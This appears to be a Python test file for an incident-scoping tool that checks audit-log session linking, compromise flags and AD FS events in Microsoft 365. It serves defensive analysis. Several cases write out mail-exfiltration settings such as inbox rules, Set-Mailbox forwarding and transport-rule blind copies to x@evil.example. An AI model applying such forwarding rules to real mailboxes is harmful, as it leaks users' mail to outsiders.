"""Cases of linking, of flags and what ends them, and of AD FS (scope.md, scope-tables.md)."""
from cases import EVIL, HOME, IDS, THIRD, adfs, audit, case, change, cmdlet, file, logon, mail, question, sign_in, upn

SESSION, OTHER = "5e551000-0000-4000-8000-000000000001", "5e551000-0000-4000-8000-000000000002"
LINK = "https://x.sharepoint.com/sites/one"

# ---- Linking ----------------------------------------------------------------
case("a session of the actor leads to a third address", [sign_in("ann", 0, sessionId=SESSION),
     mail("ann", "Bind", "<1>", ip=THIRD, AppAccessContext={"AADSessionId": SESSION})], {"ann": {"rung": "viewed", "messages": 1}})
case("a session is bound to its identity", [sign_in("ann", 0, sessionId=SESSION), sign_in("bob", 0, ip=THIRD, sessionId=SESSION)],
     {"ann": {"rung": "accessed"}})
case("a token leads on to a session: a fixed point", [sign_in("ann", 0, uniqueTokenIdentifier="AbC"),
     file("ann", "FileAccessed", ip=THIRD, AppAccessContext={"UniqueTokenId": "AbC", "AADSessionId": OTHER}),
     file("ann", "FileDownloaded", ip="192.0.2.78", AppAccessContext={"AADSessionId": OTHER})], {"ann": {"rung": "taken", "files": 1}})
case("tokens are compared by case", [sign_in("ann", 0, uniqueTokenIdentifier="AbC"),
     file("ann", "FileAccessed", ip=THIRD, AppAccessContext={"UniqueTokenId": "aBc"})], {"ann": {"rung": "accessed"}})
case("the owner's known places are set apart", [sign_in("ann", 0, 0, ip=HOME), sign_in("ann", 0, 3, sessionId=SESSION),
     file("ann", "FileDownloaded", ip=HOME, AppAccessContext={"AADSessionId": SESSION}),
     file("ann", "FileAccessed", ip=THIRD, AppAccessContext={"AADSessionId": SESSION})], {"ann": {"rung": "viewed", "files": 1}})
case("a device of the owner is a known place", [
     sign_in("ann", 0, 0, ip=HOME, deviceDetail={"deviceId": "d1"}), sign_in("ann", 0, 3, sessionId=SESSION),
     sign_in("ann", 0, 4, ip=THIRD, sessionId=SESSION, deviceDetail={"deviceId": "d1"})], {"ann": {"rung": "accessed", "successes": 1}})
case("a stolen session: what it adds is at most, but added", [
     sign_in("ann", 0, 2, "08:00:00", ip=THIRD, sessionId=SESSION), sign_in("ann", 0, 3, sessionId=SESSION),
     mail("ann", "Bind", "<1>", day=4, ip="192.0.2.99", AppAccessContext={"AADSessionId": SESSION})],
     {"ann": {"rung": "viewed", "messages": 1}})
case("a place where the owner only failed is not known", [sign_in("ann", 50126, 0, ip=THIRD), sign_in("ann", 0, 3, sessionId=SESSION),
     file("ann", "FileAccessed", ip=THIRD, AppAccessContext={"AADSessionId": SESSION})], {"ann": {"rung": "viewed"}})
case("a linked record outside the window adds nothing", [sign_in("ann", 0, 8, sessionId=SESSION),
     file("ann", "FileAccessed", day=9, ip=THIRD, AppAccessContext={"AADSessionId": SESSION})], {"ann": {"rung": "accessed"}})
case("a new address alone is a candidate, no match", [sign_in("ann", 0), sign_in("ann", 0, 4, ip=THIRD)],
     {"ann": {"rung": "accessed", "successes": 1}})
case("a session as indicator", [sign_in("ann", 0, ip=THIRD, sessionId=SESSION), sign_in("bob", 0, ip=THIRD)],
     {"ann": {"rung": "accessed"}}, asked=question(f"session:{SESSION}"))
case("a token as indicator", [mail("ann", "Bind", "<1>", ip=THIRD, AppAccessContext={"UniqueTokenId": "AbC"}),
     mail("bob", "Bind", "<1>", ip=THIRD, AppAccessContext={"UniqueTokenId": "abc"})], {"ann": {"rung": "viewed"}},
     asked=question("token:AbC"))
case("a failed sign-in leads by its session", [sign_in("ann", 50074, sessionId=SESSION),
     sign_in("ann", 0, clock="10:01:00", ip=THIRD, sessionId=SESSION)], {"ann": {"rung": "accessed", "interrupts": 1, "successes": 1}})
case("a session of the actor leads to an excluded address too", [sign_in("ann", 0, sessionId=SESSION),
     file("ann", "FileDownloaded", ip="198.51.100.200", AppAccessContext={"AADSessionId": SESSION})], {"ann": {"rung": "taken"}},
     asked=question(f"ip:{EVIL}", exclusions=[{"address": "198.51.100.200", "reason": "our own egress"}]))
case("DeviceProperties hold the session of a logon", [sign_in("ann", 0, sessionId=SESSION),
     logon("ann", "UserLoggedIn", "0", ip=THIRD, DeviceProperties=[{"Name": "SessionId", "Value": SESSION}])],
     {"ann": {"rung": "accessed", "successes": 2}})
case("the other witness of a match brings the session", [sign_in("ann", 0, id="aaaaaaaa-0000-4000-8000-0000000000f1"),
     {**logon("ann", "UserLoggedIn", "0", clock="10:00:00", DeviceProperties=[{"Name": "SessionId", "Value": SESSION}]),
      "IntraSystemId": "aaaaaaaa-0000-4000-8000-0000000000f1", "Id": "aaaaaaaa-0000-4000-8000-0000000000f1"},
     file("ann", "FileAccessed", ip=THIRD, AppAccessContext={"AADSessionId": SESSION})],
     {"ann": {"rung": "viewed", "successes": 1}})

# ---- Flags ------------------------------------------------------------------
case("an account that the actor created", [change("ann", "Add user", "new"), sign_in("new", 0, 4)],
     {"ann": {"rung": "accessed"}, "new": {"rung": "accessed", "flags": ["actorCreated"]}})
case("an account created and never used", [change("ann", "Add user", "new")], {"new": {"rung": "none", "flags": ["actorCreated"]},
     "ann": {"rung": "accessed"}})
case("a guest invited", [audit("ann", "Invite external user.", kind=8, ObjectId=upn("new"), Target=[{"ID": IDS["new"], "Type": 0}])],
     {"ann": {"rung": "accessed"}, "new": {"flags": ["actorCreated"]}})
case("a password reset exposes and alters the other account", [change("ann", "Reset user password", "bob")],
     {"ann": {"rung": "accessed"}, "bob": {"rung": "none", "flags": ["altered", "exposed"]}})
case("one's own password changed exposes nobody", [change("ann", "Change user password", "ann")], {"ann": {"rung": "accessed", "flags": []}})
case("Update user, with and without strong authentication", [change("ann", "Update user", "bob", properties=["Department"]),
     change("ann", "Update user", "eve", properties=["StrongAuthenticationMethod"])],
     {"ann": {"rung": "accessed"}, "eve": {"flags": ["altered", "exposed"]}})
case("consent exposes", [change("ann", "Consent to application", "app", kind="ServicePrincipal")],
     {"ann": {"rung": "accessed", "flags": ["exposed"]}})
case("credentials on an application", [change("ann", "Update application \u2013 Certificates and secrets management ", "app",
     kind="Application", properties=["KeyDescription"])], {"ann": {"rung": "accessed", "flags": ["exposed"]}})
case("a role", [change("ann", "Add member to role", "bob")], None)
case("a change that failed made nothing", [change("ann", "Add user", "new", result="failure"),
     change("ann", "Reset user password", "bob", result="failure"),
     cmdlet("ann", "New-InboxRule", {"Name": ".", "ForwardTo": "x@evil.example"}, result="False")],
     {"ann": {"rung": "accessed", "flags": []}})
case("an inbox rule that forwards", [cmdlet("ann", "New-InboxRule", {"Name": ".", "ForwardTo": "x@evil.example"})],
     {"ann": {"rung": "accessed", "flags": ["altered", "leaking"]}})
case("an inbox rule that does not forward", [cmdlet("ann", "New-InboxRule", {"Name": ".", "DeleteMessage": "True"})],
     {"ann": {"rung": "accessed", "flags": ["altered"]}})
case("a rule that was removed leaks no more", [cmdlet("ann", "New-InboxRule", {"Name": "fw", "RedirectTo": "x@evil.example"}),
     cmdlet("ann", "Remove-InboxRule", {"Identity": "fw"}, day=5, ip=HOME)], {"ann": {"rung": "accessed", "flags": ["altered"]}})
case("another rule removed ends nothing", [cmdlet("ann", "New-InboxRule", {"Name": "fw", "RedirectTo": "x@evil.example"}),
     cmdlet("ann", "Remove-InboxRule", {"Identity": "other"}, day=5, ip=HOME)], {"ann": {"flags": ["altered", "leaking"], "rung": "accessed"}})
case("UpdateInboxRules that forwards", [audit("ann", "UpdateInboxRules", kind=2, MailboxOwnerUPN=upn("ann"), OperationProperties=[
     {"Name": "RuleOperation", "Value": "AddMailboxRule"}, {"Name": "RuleId", "Value": "-5"},
     {"Name": "RuleActions", "Value": '[{"ActionType":"Forward","Recipients":["x@evil.example"],"ForwardFlags":"None"}]'}])],
     {"ann": {"rung": "accessed", "flags": ["altered", "leaking"]}})
case("Set-Mailbox that forwards, and what clears it", [
     cmdlet("ann", "Set-Mailbox", {"Identity": upn("bob"), "ForwardingSmtpAddress": "smtp:x@evil.example"}),
     cmdlet("eve", "Set-Mailbox", {"Identity": upn("eve"), "ForwardingSmtpAddress": "smtp:x@evil.example"}),
     cmdlet("old", "Set-Mailbox", {"Identity": upn("eve"), "ForwardingSmtpAddress": ""}, day=5, ip=HOME)],
     {"ann": {"rung": "accessed", "flags": ["altered", "leaking"]}, "eve": {"rung": "accessed", "flags": ["altered"]}})
case("Set-Mailbox that does not forward", [cmdlet("ann", "Set-Mailbox", {"Identity": upn("bob"), "AuditEnabled": "False"})],
     {"ann": {"rung": "accessed", "flags": []}})
case("a transport rule outside and inside the accepted domains", [
     cmdlet("ann", "New-TransportRule", {"Name": "t", "BlindCopyTo": "x@evil.example"}),
     cmdlet("bob", "New-TransportRule", {"Name": "u", "BlindCopyTo": upn("eve")})],
     {"ann": {"rung": "accessed", "flags": ["altered", "leaking"]}, "bob": {"rung": "accessed", "flags": ["altered"]}})
case("a transport rule that was removed", [cmdlet("ann", "New-TransportRule", {"Name": "t", "BlindCopyTo": "x@evil.example"}),
     cmdlet("old", "Remove-TransportRule", {"Identity": "t"}, day=5, ip=HOME)], {"ann": {"rung": "accessed", "flags": ["altered"]}})
case("a mailbox permission exposes the store", [cmdlet("ann", "Add-MailboxPermission",
     {"Identity": upn("bob"), "User": upn("ann"), "AccessRights": "FullAccess"})],
     {"ann": {"rung": "accessed", "flags": ["altered"]}}, {upn("bob"): {"rung": "none", "flags": ["altered", "exposed"]}})
case("a cmdlet that names no owner is about the mailbox of who ran it", [cmdlet("ann", "Add-MailboxPermission", {"User": upn("eve")})],
     {"ann": {"rung": "accessed", "flags": ["altered"]}}, {upn("ann"): {"rung": "none", "flags": ["altered", "exposed"]}})
case("an anonymous link leaks until it is removed", [file("ann", "AnonymousLinkCreated"), file("bob", "AnonymousLinkCreated", "b.docx"),
     file("bob", "AnonymousLinkRemoved", "B.docx", day=5, ip=HOME)],
     {"ann": {"rung": "accessed", "flags": ["altered", "leaking"]}, "bob": {"rung": "accessed", "flags": ["altered"]}})
case("a link removed before it was made ends nothing", [file("ann", "AnonymousLinkRemoved", clock="10:00:00", ip=HOME),
     file("ann", "AnonymousLinkCreated")], {"ann": {"rung": "accessed", "flags": ["altered", "leaking"]}})
case("sharing with someone outside, and inside", [
     file("ann", "SharingSet", TargetUserOrGroupType="Guest", TargetUserOrGroupName="x_evil.example#EXT#@example.com"),
     file("bob", "SharingSet", "b.docx", site=LINK + "2", TargetUserOrGroupType="Member", TargetUserOrGroupName=upn("eve")),
     file("eve", "CompanyLinkCreated", "c.docx", site=LINK + "3")],
     {"ann": {"rung": "accessed", "flags": ["altered", "leaking"]}, "bob": {"rung": "accessed", "flags": ["altered"]},
      "eve": {"rung": "accessed", "flags": ["altered"]}}, {LINK + "2": {"flags": ["altered", "exposed"]},
                                                            LINK + "3": {"flags": ["altered", "exposed"]}})
case("activity after containment", [sign_in("ann", 0, 3), sign_in("ann", 0, 6), sign_in("bob", 0, 3)],
     {"ann": {"rung": "accessed", "flags": ["afterContainment"]}, "bob": {"rung": "accessed", "flags": []}},
     asked=question(containment=[{"account": upn("ann"), "at": "2026-03-05T00:00:00Z"}]))
case("containment of all", [sign_in("ann", 0, 3), sign_in("bob", 0, 6)], {"ann": {"rung": "accessed", "flags": []},
     "bob": {"rung": "accessed", "flags": ["afterContainment"]}}, asked=question(containment=[{"account": "all", "at": "2026-03-05T00:00:00Z"}]))
case("a failed attempt after containment", [sign_in("ann", 0, 3), sign_in("ann", 50126, 6)], None,
     asked=question(containment=[{"account": "all", "at": "2026-03-05T00:00:00Z"}]))

# ---- AD FS: at most credentialKnown ------------------------------------------
ACTIVITY = ["ac700000-0000-4000-8000-%012d" % n for n in range(9)]
case("AD FS validated a credential", [adfs(1202, upn("ann"), ACTIVITY[0], "Success", "None")],
     {"ann": {"rung": "credentialKnown", "successes": 0}})
case("AD FS issued a token", [adfs(1200, upn("ann"), ACTIVITY[0], "Success", "None")], {"ann": {"rung": "credentialKnown", "successes": 0}})
case("AD FS refused a password: one failure", [adfs(1203, upn("ann"), ACTIVITY[0]), adfs(1201, upn("ann"), ACTIVITY[0], clock="10:00:01")],
     {"ann": {"rung": "attempted", "failures": 1}})
case("AD FS: two refusals", [adfs(1203, upn("ann"), ACTIVITY[0]), adfs(1203, upn("ann"), ACTIVITY[1])],
     {"ann": {"rung": "attempted", "failures": 2}})
case("AD FS: a lockout", [adfs(1203, upn("ann"), ACTIVITY[0], failure="ExtranetLockoutError")], {"ann": {"rung": "attempted"}})
case("AD FS: a refusal by an authorisation rule", [adfs(1201, upn("ann"), ACTIVITY[0], failure="AuthorizationError")],
     {"ann": {"rung": "credentialKnown"}})
case("AD FS: DOMAIN and user is no account", [adfs(1203, "EXAMPLE\\ann", ACTIVITY[0])], {})
case("AD FS: a sign-out proves nothing", [adfs(1206, upn("ann"), ACTIVITY[0], "Success", "None")], {})
case("AD FS: a list of addresses", [adfs(1203, upn("ann"), ACTIVITY[0], ip=f"198.51.100.7,{EVIL}")], {"ann": {"rung": "attempted"}})
case("AD FS: zeros are no activity id", [adfs(1203, upn("ann"), "00000000-0000-0000-0000-000000000000"),
     adfs(1203, upn("ann"), "00000000-0000-0000-0000-000000000000", clock="10:05:00")], {"ann": {"rung": "attempted", "failures": 2}})
